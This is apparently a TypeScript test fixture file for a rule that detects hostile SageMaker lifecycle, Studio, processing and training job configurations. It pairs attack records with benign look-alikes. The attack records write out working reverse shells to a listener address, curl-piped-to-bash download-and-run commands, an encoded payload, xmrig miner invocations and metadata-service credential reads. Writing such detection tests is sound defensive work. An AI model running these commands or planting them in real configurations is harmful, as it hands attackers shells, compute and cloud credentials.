// Records for this rule: attacks it flags, benign look-alikes it leaves alone (test/unit/classify/rule-fixtures.test.ts).
import { b64, rec, type RuleFixtures } from '../fixture-kit.js';

/** A lifecycle configuration request with these (already base64) OnStart and OnCreate scripts. */
export const lifecycleConfig = (onStart: string[], onCreate: string[] = [], name = 'CreateNotebookInstanceLifecycleConfig') =>
  rec(name, {
    notebookInstanceLifecycleConfigName: 'lcc-1',
    onCreate: onCreate.map((c) => ({ content: c })),
    onStart: onStart.map((c) => ({ content: c })),
  });

export const reverseShellOnStart = lifecycleConfig([b64('#!/bin/bash\nset -e\n  bash -i >& /dev/tcp/198.51.100.7/4444 0>&1  \n')]);
/** OnStart downloads and runs a script; OnCreate is redacted in the trail (not base64). */
export const pipedDownloadBesideRedacted = lifecycleConfig([b64('curl http://198.51.100.7/m | bash')], ['HIDDEN_DUE_TO_SECURITY_REASONS!']);

/** An ordinary set-up script: installs packages, fetches a file without running it, names a reverse shell only in a comment. */
const BENIGN_SCRIPT = [
  '#!/bin/bash',
  'set -e',
  'sudo -u ec2-user -i <<EOF',
  'source /home/ec2-user/anaconda3/bin/activate python3',
  'pip install --upgrade pandas scikit-learn==1.5.2',
  'curl -o /tmp/requirements.txt https://example.com/requirements.txt',
  '# bash -i >& /dev/tcp/ in a comment is ignored',
  'EOF',
].join('\n');
export const benignSetupScript = lifecycleConfig([b64(BENIGN_SCRIPT)], [b64(BENIGN_SCRIPT)], 'UpdateNotebookInstanceLifecycleConfig');
export const undecodableOnly = lifecycleConfig([], ['not base64 at all']);

/** CreateStudioLifecycleConfig: one base64 script for an app type. */
export const studioConfig = (script: string) =>
  rec('CreateStudioLifecycleConfig', { studioLifecycleConfigName: 'jl-bootstrap', studioLifecycleConfigAppType: 'JupyterLab', studioLifecycleConfigContent: b64(script) });

/** A processing job whose container runs `command` (entrypoint, then arguments). */
export const processingJob = (entrypoint: string[], args: string[] = []) =>
  rec('CreateProcessingJob', {
    processingJobName: 'feature-prep-1',
    appSpecification: { imageUri: '111122223333.dkr.ecr.us-east-1.amazonaws.com/feature-prep:2', containerEntrypoint: entrypoint, containerArguments: args },
    roleArn: 'arn:aws:iam::111122223333:role/service-role/AmazonSageMaker-ExecutionRole-20261127T000001',
  });
const trainingJob = (hyperParameters: Record<string, string>) =>
  rec('CreateTrainingJob', {
    trainingJobName: 'xgb-1',
    algorithmSpecification: { trainingImage: '683313688378.dkr.ecr.us-east-1.amazonaws.com/sagemaker-xgboost:1.7-1', trainingInputMode: 'File' },
    hyperParameters,
  });

export default {
  attack: [
    { name: 'a reverse shell in OnStart', records: [reverseShellOnStart] },
    { name: 'download and execute in OnStart, OnCreate redacted', records: [pipedDownloadBesideRedacted] },
    { name: 'a miner in OnCreate', records: [lifecycleConfig([], [b64('#!/bin/bash\nnohup ./xmrig -o stratum+tcp://pool.minexmr.com:4444 -u 4A... &\n')])] },
    { name: 'a Studio configuration opening an interactive bash to a listener', records: [studioConfig('#!/bin/bash\nnohup bash -i > /dev/tcp/198.51.100.7/443 0<&1 2>&1 &\n')] },
    { name: 'a payload decoded and run', records: [lifecycleConfig([b64('echo Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC43L3ggfCBzaA== | base64 -d | bash')])] },
    { name: 'a perl socket back to a listener', records: [lifecycleConfig([b64('perl -e \'use Socket;$i="198.51.100.7";socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));\'')])] },
    { name: 'the role name read from the metadata service', records: [studioConfig('ROLE=$(curl -s http://169.254.169.254/latest/meta-data/iam/info)')] },
    { name: 'the metadata service listed from a Studio configuration', records: [studioConfig('curl -s http://169.254.169.254/latest/meta-data/ > /tmp/md')] },
    { name: 'a processing job whose container downloads and runs a script', records: [processingJob(['/bin/sh', '-c'], ['curl -fsSL http://198.51.100.7/p.sh | sh'])] },
    { name: 'a processing job whose container opens a reverse shell', records: [processingJob(['python3', '-c'], ['import socket,subprocess,os;s=socket.socket();s.connect(("198.51.100.7",443));os.dup2(s.fileno(),0);import pty;pty.spawn("sh")'])] },
    { name: 'a training job hyperparameter carrying a miner', records: [trainingJob({ num_round: '100', sagemaker_program: 'train.py', extra_args: '"--run ./xmrig -o stratum+tcp://198.51.100.7:3333"' })] },
  ],
  nearMiss: [
    { name: 'a set-up script installing packages and fetching a file without running it', records: [benignSetupScript] },
    { name: 'content that is not base64', records: [undecodableOnly] },
    { name: 'a processing job running its own Python script', records: [processingJob(['python3', '/opt/ml/processing/code/preprocess.py'], ['--train-test-split-ratio', '0.2'])] },
    { name: 'a training job with ordinary hyperparameters', records: [trainingJob({ num_round: '100', max_depth: '5', objective: '"binary:logistic"', sagemaker_program: '"train.py"', sagemaker_submit_directory: '"s3://ml-code-111122223333/xgb/sourcedir.tar.gz"' })] },
    { name: 'a Studio configuration installing extensions and reading the instance id from the metadata service', records: [studioConfig('#!/bin/bash\npip install --quiet jupyterlab-lsp\nID=$(curl -s http://169.254.169.254/latest/meta-data/instance-id)\n')] },
  ],
} satisfies RuleFixtures;
